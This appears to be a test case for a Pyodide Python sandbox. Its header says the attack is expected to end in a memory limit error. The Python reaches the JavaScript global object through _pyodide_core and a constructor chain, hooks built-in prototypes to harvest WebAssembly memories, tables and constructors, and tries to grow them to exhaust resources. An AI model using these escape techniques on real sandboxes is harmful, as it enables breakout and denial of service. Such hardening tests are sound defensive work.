# tries: dig the interpreter's WebAssembly memory out of its loader, and grow it, or make more of its kind
# holds: what grows is counted, and no constructor is to be found
# threat: T3
# ends: memory_limit error
# proof: found
# request: {"limits": {"memoryMb": 64, "timeoutMs": 20000}}
import sys
from importlib.machinery import BuiltinImporter
from importlib.util import module_from_spec

sys.meta_path[:] = [BuiltinImporter, *sys.meta_path]
core = module_from_spec(BuiltinImporter.find_spec("_pyodide_core"))
core.__spec__.loader.exec_module(core)
realm = core.to_js([1]).constructor.constructor("return globalThis")()
print("reached", realm.ArrayBuffer, flush=True)
dig = realm.Function.new(
    """
  const { apply } = Reflect;
  const seen = new Set();
  const isObject = (value) => (typeof value === 'object' && value !== null) || typeof value === 'function';
  const look = (value, depth) => {
    if (!isObject(value) || seen.has(value) || depth > 4 || seen.size > 20000) return;
    seen.add(value);
    if (ArrayBuffer.isView(value)) return look(value.buffer, depth);
    for (const key of Reflect.ownKeys(value)) {
      try { look(Reflect.getOwnPropertyDescriptor(value, key).value, depth + 1); } catch {}
    }
    try { look(Reflect.getPrototypeOf(value), depth + 1); } catch {}
  };
  let isInside = false;
  const spy = (target, name) => {
    const original = target[name];
    target[name] = function (...given) {
      if (!isInside) { isInside = true; try { look(this, 0); look(given, 0); } finally { isInside = false; } }
      return apply(original, this, given);
    };
  };
  for (const name of ['apply', 'call', 'bind']) spy(Function.prototype, name);
  for (const name of ['push', 'pop', 'map', 'concat', 'slice']) spy(Array.prototype, name);
  for (const name of ['get', 'set', 'has']) spy(Map.prototype, name);
  for (const name of ['subarray', 'set', 'fill']) spy(Object.getPrototypeOf(Uint8Array.prototype), name);
  for (const name of ['apply', 'get', 'has', 'ownKeys', 'construct']) spy(Reflect, name);
  for (const name of ['wasmMemory', 'onAbort', 'preRun', 'print', 'stdin', 'thisProgram', 'INITIAL_MEMORY', 'logReadFiles']) {
    Object.defineProperty(Object.prototype, name, { configurable: true, get() { look(this, 0); }, set(value) { look(value, 0); } });
  }
  return () => {
    isInside = true;
    const found = { memories: [], tables: [], makers: [] };
    for (const value of seen) {
      const tag = Object.prototype.toString.call(value);
      if (tag === '[object WebAssembly.Memory]') found.memories.push(value);
      if (tag === '[object WebAssembly.Table]') found.tables.push(value);
      if (/^\\[object WebAssembly\\.(Memory|Module|Instance|Table)\\]$/.test(tag) && Object.hasOwn(Object.getPrototypeOf(value), 'constructor')) found.makers.push(value.constructor);
    }
    return found;
  };
"""
)
take = dig()
import os

open("/tmp/x", "w").write("hello")
os.listdir("/tmp")
core.to_js({"a": [1, 2]})
try:
    bytearray(8_000_000)
    realm.eval("(() => { throw new Error('x') })()")
except Exception as error:
    print("thrown", type(error).__name__, flush=True)
found = take()
print("found", found.memories.length, found.tables.length, found.makers.length, flush=True)
if found.makers.length > 0:
    print("BREACH a constructor", flush=True)
for memory in found.memories:
    for _ in range(20):
        memory.grow(16 * 16)
    print("BREACH", memory.buffer.byteLength, flush=True)
    break
for table in found.tables:
    table.grow(8_000_000)
    print("BREACH table", flush=True)
    break
raise SystemExit(3)
